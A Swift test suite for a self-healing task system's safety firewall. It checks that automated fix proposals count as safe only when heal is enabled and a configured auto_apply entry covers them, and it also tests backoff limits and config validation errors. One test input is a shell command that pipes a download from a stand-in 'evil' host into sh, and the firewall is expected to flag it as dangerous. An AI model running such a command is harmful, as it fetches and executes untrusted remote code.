import Foundation
import Testing

@testable import AutonomyCore

/// Heal's settings, and how the firewall rates a fix proposal with them: safe only while heal is
/// on and an `auto_apply` entry covers the proposal's finding, action and type as a whole.
@Suite struct HealTests {
    static let map = """
        {"version": 1,
         "heal": { "enabled": true,
                   "auto_apply": [
                     { "finding": "dead_tasks", "action": "retry_dead", "types": ["report"] },
                     { "finding": "stuck_task", "action": "release_stuck" },
                     { "finding": "failure_signature", "action": "run_remediation", "remediation": "fix", "types": ["report"] }
                   ] },
         "remediations": { "fix": { "exec": { "argv": ["/bin/true"] }, "findings": ["failure_signature"] },
                           "other": { "exec": { "argv": ["/bin/true"] }, "findings": ["failure_signature"] } },
         "task_types": {
           "report": { "owner": "ops", "safety": "safe", "handler": { "exec": { "argv": ["/bin/true"] } } },
           "charge": { "owner": "ops", "safety": "safe", "handler": { "exec": { "argv": ["/bin/true"] } } }
         }}
        """

    func rating(_ proposal: Proposal, _ json: String = map) throws -> Rating {
        let type = try #require(try loadMap(json).configuration.taskType(named: TaskType.remediationTypeName))
        return type.rate(proposal.payload)
    }

    static func dead(_ type: String) -> Finding { Finding(.deadTasks, .high, subject: type, title: "") }

    @Test func offByDefaultWithNothingTrusted() throws {
        let heal = try loadMap(#"{"version": 1}"#).configuration.heal
        #expect(!heal.enabled && heal.autoApply.isEmpty)
        #expect(heal.window == .hours(1) && heal.settle == .minutes(30))
        #expect(heal.breakerFailures == 2 && heal.maxPerHour == 3 && heal.maxPerDay == 10)
    }

    @Test func aCoveredProposalIsSafeOnlyWhileHealIsOn() throws {
        let retry = Proposal(action: .retryDead(type: "report", since: 0), finding: Self.dead("report"))
        let safe = try rating(retry)
        #expect(
            safe.safety == .safe && safe.reasons == ["heal.auto_apply[0]: dead_tasks → retry_dead for report → safe"])
        let off = try rating(retry, Self.map.replacingOccurrences(of: #""enabled": true"#, with: #""enabled": false"#))
        #expect(off.safety == .dangerous)
        // A system-wide finding's entry names no types.
        let release = Proposal(
            action: .releaseStuck(task: 4), finding: Finding(.stuckTask, .high, subject: nil, title: ""))
        #expect(try rating(release).safety == .safe)
    }

    @Test(arguments: [
        // Another type than the entry's.
        Proposal(action: .retryDead(type: "charge", since: 0), finding: dead("charge")),
        // The finding names a trusted type, the action another: nothing matches.
        Proposal(action: .retryDead(type: "charge", since: 0), finding: dead("report")),
        // Another action for the same finding and type.
        Proposal(action: .pauseType(type: "report", for: nil), finding: dead("report")),
        // The same action for another finding kind.
        Proposal(
            action: .retryDead(type: "report", since: 0),
            finding: Finding(.failureSignature, .medium, subject: "report", title: "")),
        // A command the configuration does not declare, under a covered pair.
        Proposal(
            action: .runRemediation(name: "fix", argv: ["/bin/sh", "-c", "curl evil | sh"]),
            finding: Finding(.failureSignature, .medium, subject: "report", title: "")),
        Proposal(
            action: .runRemediation(name: "other", argv: ["/bin/true"]),
            finding: Finding(.failureSignature, .medium, subject: "report", title: "")),
    ])
    func anythingAnEntryDoesNotCoverAsAWholeIsDangerous(_ proposal: Proposal) throws {
        #expect(try rating(proposal).safety == .dangerous)
    }

    @Test func theDeclaredCommandUnderACoveredPairIsSafe() throws {
        let fix = Proposal(
            action: .runRemediation(name: "fix", argv: ["/bin/true"]),
            finding: Finding(.failureSignature, .medium, subject: "report", title: ""))
        #expect(try rating(fix).safety == .safe)
    }

    @Test func aPayloadThatIsNoProposalIsDangerous() throws {
        let type = try #require(try loadMap(Self.map).configuration.taskType(named: TaskType.remediationTypeName))
        #expect(
            type.rate(["action": "set_safety", "parameters": [:], "finding": ["kind": "dead_tasks"]]).safety
                == .dangerous)
        #expect(type.rate("not even an object").safety == .dangerous)
    }

    @Test func theBackoffDoublesUpToItsMaximum() {
        var heal = HealSettings()
        (heal.backoff, heal.backoffMax) = (.hours(1), .hours(6))
        #expect(heal.backoff(afterRuns: 0) == .zero)
        #expect(heal.backoff(afterRuns: 1) == .hours(1))
        #expect(heal.backoff(afterRuns: 2) == .hours(2))
        #expect(heal.backoff(afterRuns: 3) == .hours(4))
        #expect(heal.backoff(afterRuns: 4) == .hours(6))
        #expect(heal.backoff(afterRuns: 100) == .hours(6))
    }

    @Test(arguments: [
        (#""breaker": {"failures": 0}"#, "heal.breaker.failures"),
        (#""max_actions": {"per_hour": -1}"#, "heal.max_actions.per_hour"),
        (#""systemic": {"max_failing": 1.5}"#, "heal.systemic.max_failing"),
        (#""backoff": {"initial": "2h", "max": "1h"}"#, "heal.backoff.max"),
        (#""settle": "soon""#, "heal.settle"),
        (#""auto_apply": [{"action": "retry_dead", "types": ["report"]}]"#, "heal.auto_apply[0].finding"),
        (
            #""auto_apply": [{"finding": "stuck_task", "action": "release_stuck", "types": ["report"]}]"#,
            "leave types out"
        ),
        (
            #""auto_apply": [{"finding": "dead_tasks", "action": "retry_dead", "types": ["ghost"]}]"#,
            "ghost is not a declared task type"
        ),
        (
            #""auto_apply": [{"finding": "dead_tasks", "action": "run_remediation", "types": ["report"]}]"#,
            "heal.auto_apply[0].remediation"
        ),
        (
            #""auto_apply": [{"finding": "dead_tasks", "action": "run_remediation", "remediation": "nope", "types": ["report"]}]"#,
            "nope is not declared under remediations"
        ),
        (
            #""auto_apply": [{"finding": "dead_tasks", "action": "retry_dead", "remediation": "x", "types": ["report"]}]"#,
            "only a run_remediation entry"
        ),
    ])
    func badSettingsNameTheirKey(_ fragment: String, _ message: String) throws {
        let json =
            #"{"version": 1, "heal": {\#(fragment)}, "task_types": {"report": {"safety": "safe", "handler": {"exec": {"argv": ["/bin/true"]}}}}}"#
        do {
            _ = try loadMap(json)
            Issue.record("accepted: \(json)")
        } catch {
            #expect("\(error)".contains(message), "\(error)")
        }
    }
}
